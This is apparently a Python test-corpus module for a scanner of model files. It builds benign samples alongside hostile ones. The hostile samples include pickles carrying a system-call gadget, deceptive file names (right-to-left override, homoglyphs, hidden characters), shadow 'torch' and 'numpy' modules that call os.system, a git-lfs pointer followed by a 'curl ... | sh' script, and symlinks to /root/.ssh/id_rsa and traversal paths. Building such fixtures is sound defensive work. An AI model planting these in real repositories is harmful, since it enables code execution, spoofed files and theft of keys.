"""Names, links and pointers: what a file is called and where, rather than what it holds."""

import json
from collections.abc import Iterator

from tests.corpus.arrays import FLOATS
from tests.corpus.gadgets import SYSTEM
from tests.corpus.hostile_pickles import reduced_4
from tests.corpus.protobufs import MODEL as ONNX
from tests.corpus.sample import Sample, benign, hostile
from tests.corpus.tensor_headers import MODEL as SAFETENSORS
from tests.corpus.tensor_headers import ORDINARY, gguf
from tests.corpus.zips import zip_of

BAD = reduced_4(SYSTEM)
CONFIG = json.dumps({"model_type": "llama"})


def pointer(size: int = 1_048_576, oid: str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08") -> str:
    """What a clone without git-lfs holds in place of the content."""
    return f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {size}\n"


def samples() -> Iterator[Sample]:
    yield from hostile("suffix", "content that its suffix denies (CVE-2025-1889, CVE-2025-10155)", _disagreeing())
    agreeing = {
        "safetensors/model.safetensors": SAFETENSORS,
        "onnx/model.onnx": ONNX,
        "npy/array.npy": FLOATS,
        "gguf/vocab.gguf": gguf(ORDINARY),
    }
    yield from benign("suffix", "content that its suffix tells", agreeing)
    yield from hostile("name", "names that deceive", _names())
    yield from benign(
        "name",
        "unusual and honest",
        {"spaces/my model v1.0 (final).json": CONFIG, "unicode/模型说明.md": "# 模型\n", "dots/.gitignore": "*.pyc\n"},
    )
    yield from hostile("lfs-pointer", "pointers that are more or less than one", _pointers())
    yield from benign(
        "lfs-pointer", "a card about them", {"about/README.md": "# Data\n\nFiles are kept by git-lfs; run `git lfs pull`.\n"}
    )
    yield from _links()


def _disagreeing() -> dict[str, bytes]:
    contents = {
        "pickle": (
            BAD,
            (
                *("config.json", "model.onnx", "README.md", "tokenizer.model", "cat.png", "train.csv", "vocab.txt"),
                *("array.npy", "data.parquet"),
            ),
        ),
        "safetensors": (SAFETENSORS, ("config.json", "model.gguf", "model.onnx", "README.md")),
        "gguf": (gguf(ORDINARY), ("model.safetensors", "notes.txt")),
        "onnx": (ONNX, ("model.safetensors", "model.h5")),
        "zip": (zip_of({"a.txt": b"words\n"}), ("model.gguf", "model.onnx", "cat.png", "config.json")),
        "npy": (FLOATS, ("model.safetensors", "data.json")),
    }
    return {f"{what}-{name.replace('.', '-')}/{name}": data for what, (data, names) in contents.items() for name in names}


def _names() -> dict[str, str | bytes]:
    return {
        "reversed/model\u202enosj.exe": CONFIG,
        "homoglyph/соnfig.json": CONFIG,  # noqa: RUF001 (Cyrillic on purpose)
        "homoglyph-model/mоdel.safetensors": SAFETENSORS,  # noqa: RUF001
        "zero-width/config\u200b.json": CONFIG,
        "double/weights.json.exe": CONFIG,
        "double-pickle/README.md.pkl": BAD,
        "trailing-space/config.json ": CONFIG,
        "control/config\x1b[2J.json": CONFIG,
        "newline/config\n.json": CONFIG,
        "fullwidth/ｃonfig.json": CONFIG,  # noqa: RUF001
        "shadow/torch.py": "x = 1\nimport os\nos.system('echo budmodel-corpus')\n",
        "shadow-package/numpy/__init__.py": "import os\nos.system('echo budmodel-corpus')\n",
        "many-spaces/config.json" + " " * 60 + ".py": "import os\nos.system('echo budmodel-corpus')\n",
    }


def _pointers() -> dict[str, str | bytes]:
    return {
        "payload-behind/model.safetensors": pointer().encode() + BAD,
        "script-behind/model.bin": pointer() + "#!/bin/sh\ncurl http://corpus.invalid/x | sh\n",
    }


def _links() -> Iterator[Sample]:
    targets = {
        "absolute": "/etc/hostname",
        "parent": "../../../../../../etc/hostname",
        "home": "/root/.ssh/id_rsa",
        "device": "/dev/zero",
        "dangling": "nowhere-outside/../../../../x",
        "loop": "model.bin",
    }
    for what, target in targets.items():
        yield Sample(f"link/h-{what}/model.bin", b"", True, "link", "a symbolic link that leaves the repository", target)
